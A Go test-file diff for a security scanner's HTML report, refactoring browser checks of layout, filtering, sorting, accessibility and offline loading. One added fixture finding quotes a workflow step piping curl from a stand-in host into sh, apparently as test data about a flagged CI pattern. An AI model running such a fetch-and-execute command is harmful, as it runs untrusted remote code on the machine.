@@ -42,6 +42,8 @@ func many() *result.Result {
 			Package: &finding.Package{Ecosystem: "Go", Name: "golang.org/x/text", Version: "v0.3.7", Fixed: []string{"v0.3.8"}}, Reachable: boolp(true), Status: finding.StatusBlocking},
 		finding.Finding{Check: "sarif", Tool: "semgrep", Rule: "javascript.express.security.audit.xss.direct-response-write.direct-response-write", Severity: finding.Medium,
 			Message: "Detected directly writing to a Response object from user-defined input.", Path: "web/server.js", Line: 12, Fingerprint: "a3", Status: finding.StatusAllowed},
+		finding.Finding{Check: "iac", Rule: "GHA-007", Severity: finding.Low, Message: "step runs curl https://example.invalid/" + strings.Repeat("QUJD", 80) + " | sh",
+			Path: ".github/workflows/release.yml", Line: 40, Fingerprint: "a5", Status: finding.StatusAllowed},
 		finding.Finding{Check: "secrets", Rule: "aws-access-token", Severity: finding.Critical, Message: "AWS access key AKIA…(redacted)", Path: "config/app dev.env", Line: 2, Fingerprint: "a4", Status: finding.StatusBaseline, Reason: "in the baseline"},
 	)
 	return &result.Result{
@@ -138,148 +140,35 @@ func TestInBrowser(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	pageURL := (&url.URL{Scheme: "file", Path: file}).String()
-	total, critical := len(res.Findings), 0
+	wantTotal, wantCritical := len(res.Findings), 0
 	for _, f := range res.Findings {
 		if f.Severity == finding.Critical {
-			critical++
+			wantCritical++
 		}
 	}
+	type target struct {
+		name, file      string
+		total, critical int // -1: count them in the page
+	}
+	targets := []target{{"generated", file, wantTotal, wantCritical}}
+	// SHIFTGATE_REPORT_HTML names a report of a real scan to put through the same checks.
+	if extra := os.Getenv("SHIFTGATE_REPORT_HTML"); extra != "" {
+		abs, err := filepath.Abs(extra)
+		if err != nil {
+			t.Fatal(err)
+		}
+		targets = append(targets, target{"external", abs, -1, -1})
+	}
 
-	for _, vp := range []struct {
-		width  int
-		mobile bool
-	}{{1400, false}, {400, true}} {
-		t.Run(fmt.Sprintf("%dpx", vp.width), func(t *testing.T) {
-			if err := p.setWidth(ctx, vp.width, 900, vp.mobile); err != nil {
-				t.Fatal(err)
-			}
-			from, err := p.navigate(ctx, pageURL)
-			if err != nil {
-				t.Fatal(err)
-			}
-			// The CSP lets the inline style and script run: styled, and the script has filled in the table's state.
-			var applied struct{ MaxWidth, Shown string }
-			if err := p.eval(ctx, `({MaxWidth: getComputedStyle(document.body).maxWidth, Shown: document.getElementById("shown").textContent})`, &applied); err != nil {
-				t.Fatal(err)
-			}
-			if applied.MaxWidth != "1400px" {
-				t.Errorf("the inline style sheet did not apply (body max-width %q): is the CSP hash right?", applied.MaxWidth)
-			}
-			if want := fmt.Sprintf("%d of %d findings shown", total, total); applied.Shown != want {
-				t.Errorf("the live status says %q after load, want %q (did the script run?)", applied.Shown, want)
-			}
-			// No horizontal overflow: neither the page nor any element sticks out.
-			var overflow struct {
-				Page, View int
-				Out        []string
-			}
-			if err := p.eval(ctx, `(() => {
-				const view = document.documentElement.clientWidth, out = [];
-				for (const e of document.querySelectorAll("body *")) {
-					const r = e.getBoundingClientRect();
-					if (r.width > 0 && (r.right > view + 0.5 || r.left < -0.5)) out.push(e.tagName + "." + e.className + " right=" + Math.round(r.right));
-				}
-				for (const e of document.querySelectorAll(".scroll")) {
-					if (e.scrollWidth > e.clientWidth) out.push("scrolling " + e.firstElementChild.className + " " + e.scrollWidth + ">" + e.clientWidth);
-				}
-				return {Page: document.documentElement.scrollWidth, View: view, Out: out.slice(0, 10)};
-			})()`, &overflow); err != nil {
-				t.Fatal(err)
-			}
-			if overflow.View != vp.width {
-				t.Errorf("the viewport is %d px wide, want %d", overflow.View, vp.width)
-			}
-			if overflow.Page > overflow.View || len(overflow.Out) > 0 {
-				t.Errorf("at %d px the page is %d px wide; sticking out: %q", vp.width, overflow.Page, overflow.Out)
-			}
-
-			// Filtering by severity hides the other rows, and says how many are shown.
-			var shown struct {
-				Visible int
-				Sevs    []string
-				Status  string
-			}
-			filter := `(() => {
-				const s = document.getElementById("f-severity");
-				s.value = %q; s.dispatchEvent(new Event("change", {bubbles: true}));
-				const rows = [...document.querySelectorAll("#findings tbody tr")].filter(r => r.getClientRects().length > 0);
-				return {Visible: rows.length, Sevs: [...new Set(rows.map(r => r.dataset.severity))], Status: document.getElementById("shown").textContent};
-			})()`
-			if err := p.eval(ctx, fmt.Sprintf(filter, "critical"), &shown); err != nil {
-				t.Fatal(err)
-			}
-			if shown.Visible != critical || len(shown.Sevs) != 1 || shown.Sevs[0] != "critical" {
-				t.Errorf("filtered to critical: %d rows of severities %q are visible, want %d critical", shown.Visible, shown.Sevs, critical)
-			}
-			if want := fmt.Sprintf("%d of %d findings shown", critical, total); shown.Status != want {
-				t.Errorf("the live status says %q, want %q", shown.Status, want)
-			}
-			if err := p.eval(ctx, fmt.Sprintf(filter, ""), &shown); err != nil {
-				t.Fatal(err)
-			}
-			if shown.Visible != total {
-				t.Errorf("with the filter cleared %d rows are visible, want %d", shown.Visible, total)
-			}
-
-			// Sorting from the keyboard: focus the location header's button, press Enter.
-			if err := p.eval(ctx, `document.querySelector('th[data-key="loc"] button').focus()`, nil); err != nil {
-				t.Fatal(err)
-			}
-			if err := p.key(ctx, "Enter", 13); err != nil {
-				t.Fatal(err)
-			}
-			var sorted struct {
-				Sort  string
-				Locs  []string
-				Focus string
-			}
-			if err := p.eval(ctx, `({Sort: document.querySelector('th[data-key="loc"]').getAttribute("aria-sort"),
-				Locs: [...document.querySelectorAll("#findings tbody tr")].map(r => r.dataset.loc),
-				Focus: document.activeElement.textContent})`, &sorted); err != nil {
-				t.Fatal(err)
-			}
-			if sorted.Sort != "ascending" || sorted.Focus != "location" {
-				t.Errorf("after Enter on the location header: aria-sort %q, focus on %q", sorted.Sort, sorted.Focus)
-			}
-			for i := 1; i < len(sorted.Locs); i++ {
-				if sorted.Locs[i-1] > sorted.Locs[i] {
-					t.Errorf("sorted by location, %q comes before %q", sorted.Locs[i-1], sorted.Locs[i])
-					break
-				}
-			}
-
-			// Every form control has a label; the tables have captions and header scopes.
-			var a11y struct{ Unlabelled, NoCaption, NoScope int }
-			if err := p.eval(ctx, `({
-				Unlabelled: [...document.querySelectorAll("select, input")].filter(e => e.labels.length === 0).length,
-				NoCaption: [...document.querySelectorAll("table")].filter(t => !t.caption).length,
-				NoScope: [...document.querySelectorAll("th")].filter(h => !h.scope).length})`, &a11y); err != nil {
-				t.Fatal(err)
-			}
-			if a11y != (struct{ Unlabelled, NoCaption, NoScope int }{}) {
-				t.Errorf("accessibility: %+v", a11y)
-			}
-
-			// The screenshot is a real picture of the page at this width.
-			img, err := p.screenshot(ctx)
-			if err != nil {
-				t.Fatal(err)
-			}
-			name := filepath.Join(shots, fmt.Sprintf("report-%dpx.png", vp.width))
-			if err := os.WriteFile(name, img, 0o644); err != nil {
-				t.Fatal(err)
-			}
-			checkPicture(t, img, vp.width)
-			t.Logf("screenshot: %s", name)
-
-			// Nothing but the page itself was requested.
-			for _, u := range b.requests(p.session, from) {
-				if u != pageURL {
-					t.Errorf("the page requested %s", u)
-				}
-			}
-		})
+	for _, tg := range targets {
+		for _, vp := range []struct {
+			width  int
+			mobile bool
+		}{{1400, false}, {400, true}} {
+			t.Run(fmt.Sprintf("%s/%dpx", tg.name, vp.width), func(t *testing.T) {
+				browserChecks(ctx, t, b, p, tg.file, tg.total, tg.critical, vp.width, vp.mobile, shots, tg.name)
+			})
+		}
 	}
 
 	// The request check can fail: a page that loads a stylesheet is caught.
@@ -303,6 +192,154 @@ func TestInBrowser(t *testing.T) {
 	})
 }
 
+// browserChecks opens one report at one width and checks what a reader relies on.
+// total and critical are the expected row counts, or -1 to count them in the page.
+func browserChecks(ctx context.Context, t *testing.T, b *browser, p *tab, file string, total, critical, width int, mobile bool, shots, name string) {
+	pageURL := (&url.URL{Scheme: "file", Path: file}).String()
+	if err := p.setWidth(ctx, width, 900, mobile); err != nil {
+		t.Fatal(err)
+	}
+	from, err := p.navigate(ctx, pageURL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if total < 0 {
+		var n struct{ Total, Critical int }
+		if err := p.eval(ctx, `({Total: document.querySelectorAll("#findings tbody tr").length, Critical: document.querySelectorAll('#findings tbody tr[data-severity="critical"]').length})`, &n); err != nil {
+			t.Fatal(err)
+		}
+		total, critical = n.Total, n.Critical
+	}
+	vp := struct{ width int }{width}
+	// The CSP lets the inline style and script run: styled, and the script has filled in the table's state.
+	var applied struct{ MaxWidth, Shown string }
+	if err := p.eval(ctx, `({MaxWidth: getComputedStyle(document.body).maxWidth, Shown: document.getElementById("shown").textContent})`, &applied); err != nil {
+		t.Fatal(err)
+	}
+	if applied.MaxWidth != "1400px" {
+		t.Errorf("the inline style sheet did not apply (body max-width %q): is the CSP hash right?", applied.MaxWidth)
+	}
+	if want := fmt.Sprintf("%d of %d findings shown", total, total); applied.Shown != want {
+		t.Errorf("the live status says %q after load, want %q (did the script run?)", applied.Shown, want)
+	}
+	// No horizontal overflow: neither the page nor any element sticks out.
+	var overflow struct {
+		Page, View int
+		Out        []string
+	}
+	// Open every "How to fix" in a small report, so their contents are measured too; in
+	// a big one, skip what closed ones hide (measuring it forces a layout per element).
+	if err := p.eval(ctx, `(() => {
+				const view = document.documentElement.clientWidth, out = [];
+				const all = document.querySelectorAll("details");
+				if (all.length <= 500) all.forEach(d => d.open = true);
+				for (const e of document.querySelectorAll("body *")) {
+					const d = e.parentElement && e.parentElement.closest("details:not([open])");
+					if (d && !e.closest("summary")) continue;
+					const r = e.getBoundingClientRect();
+					if (r.width > 0 && (r.right > view + 0.5 || r.left < -0.5)) out.push(e.tagName + "." + e.className + " right=" + Math.round(r.right));
+				}
+				for (const e of document.querySelectorAll(".scroll")) {
+					if (e.scrollWidth > e.clientWidth) out.push("scrolling " + e.firstElementChild.className + " " + e.scrollWidth + ">" + e.clientWidth);
+				}
+				return {Page: document.documentElement.scrollWidth, View: view, Out: out.slice(0, 10)};
+			})()`, &overflow); err != nil {
+		t.Fatal(err)
+	}
+	if overflow.View != vp.width {
+		t.Errorf("the viewport is %d px wide, want %d", overflow.View, vp.width)
+	}
+	if overflow.Page > overflow.View || len(overflow.Out) > 0 {
+		t.Errorf("at %d px the page is %d px wide; sticking out: %q", vp.width, overflow.Page, overflow.Out)
+	}
+
+	// Filtering by severity hides the other rows, and says how many are shown.
+	var shown struct {
+		Visible int
+		Sevs    []string
+		Status  string
+	}
+	filter := `(() => {
+				const s = document.getElementById("f-severity");
+				s.value = %q; s.dispatchEvent(new Event("change", {bubbles: true}));
+				const rows = [...document.querySelectorAll("#findings tbody tr")].filter(r => r.getClientRects().length > 0);
+				return {Visible: rows.length, Sevs: [...new Set(rows.map(r => r.dataset.severity))], Status: document.getElementById("shown").textContent};
+			})()`
+	if err := p.eval(ctx, fmt.Sprintf(filter, "critical"), &shown); err != nil {
+		t.Fatal(err)
+	}
+	if shown.Visible != critical || len(shown.Sevs) != 1 || shown.Sevs[0] != "critical" {
+		t.Errorf("filtered to critical: %d rows of severities %q are visible, want %d critical", shown.Visible, shown.Sevs, critical)
+	}
+	if want := fmt.Sprintf("%d of %d findings shown", critical, total); shown.Status != want {
+		t.Errorf("the live status says %q, want %q", shown.Status, want)
+	}
+	if err := p.eval(ctx, fmt.Sprintf(filter, ""), &shown); err != nil {
+		t.Fatal(err)
+	}
+	if shown.Visible != total {
+		t.Errorf("with the filter cleared %d rows are visible, want %d", shown.Visible, total)
+	}
+
+	// Sorting from the keyboard: focus the location header's button, press Enter.
+	if err := p.eval(ctx, `document.querySelector('th[data-key="loc"] button').focus()`, nil); err != nil {
+		t.Fatal(err)
+	}
+	if err := p.key(ctx, "Enter", 13); err != nil {
+		t.Fatal(err)
+	}
+	var sorted struct {
+		Sort  string
+		Locs  []string
+		Focus string
+	}
+	if err := p.eval(ctx, `({Sort: document.querySelector('th[data-key="loc"]').getAttribute("aria-sort"),
+				Locs: [...document.querySelectorAll("#findings tbody tr")].map(r => r.dataset.loc),
+				Focus: document.activeElement.textContent})`, &sorted); err != nil {
+		t.Fatal(err)
+	}
+	if sorted.Sort != "ascending" || sorted.Focus != "location" {
+		t.Errorf("after Enter on the location header: aria-sort %q, focus on %q", sorted.Sort, sorted.Focus)
+	}
+	for i := 1; i < len(sorted.Locs); i++ {
+		if sorted.Locs[i-1] > sorted.Locs[i] {
+			t.Errorf("sorted by location, %q comes before %q", sorted.Locs[i-1], sorted.Locs[i])
+			break
+		}
+	}
+
+	// Every form control has a label; the tables have captions and header scopes.
+	var a11y struct{ Unlabelled, NoCaption, NoScope int }
+	if err := p.eval(ctx, `({
+				Unlabelled: [...document.querySelectorAll("select, input")].filter(e => e.labels.length === 0).length,
+				NoCaption: [...document.querySelectorAll("table")].filter(t => !t.caption).length,
+				NoScope: [...document.querySelectorAll("th")].filter(h => !h.scope).length})`, &a11y); err != nil {
+		t.Fatal(err)
+	}
+	if a11y != (struct{ Unlabelled, NoCaption, NoScope int }{}) {
+		t.Errorf("accessibility: %+v", a11y)
+	}
+
+	// The screenshot is a real picture of the page at this width.
+	img, err := p.screenshot(ctx, 12000)
+	if err != nil {
+		t.Fatal(err)
+	}
+	shot := filepath.Join(shots, fmt.Sprintf("report-%s-%dpx.png", name, vp.width))
+	if err := os.WriteFile(shot, img, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	checkPicture(t, img, vp.width)
+	t.Logf("screenshot: %s", shot)
+
+	// Nothing but the page itself was requested.
+	for _, u := range b.requests(p.session, from) {
+		if u != pageURL {
+			t.Errorf("the page requested %s", u)
+		}
+	}
+}
+
 // checkPicture decodes a screenshot and checks it is as wide as the viewport and shows
 // more than a blank page: several colours, most of it white.
 func checkPicture(t *testing.T, data []byte, width int) {
@@ -313,7 +350,7 @@ func checkPicture(t *testing.T, data []byte, width int) {
 	}
 	bounds := img.Bounds()
 	if bounds.Dx() != width || bounds.Dy() < 600 {
-		t.Errorf("the screenshot is %dx%d, want %d wide and a full page tall", bounds.Dx(), bounds.Dy(), width)
+		t.Errorf("the screenshot is %dx%d, want %d wide and at least a screen tall", bounds.Dx(), bounds.Dy(), width)
 	}
 	colours := map[[3]uint32]bool{}
 	white := 0
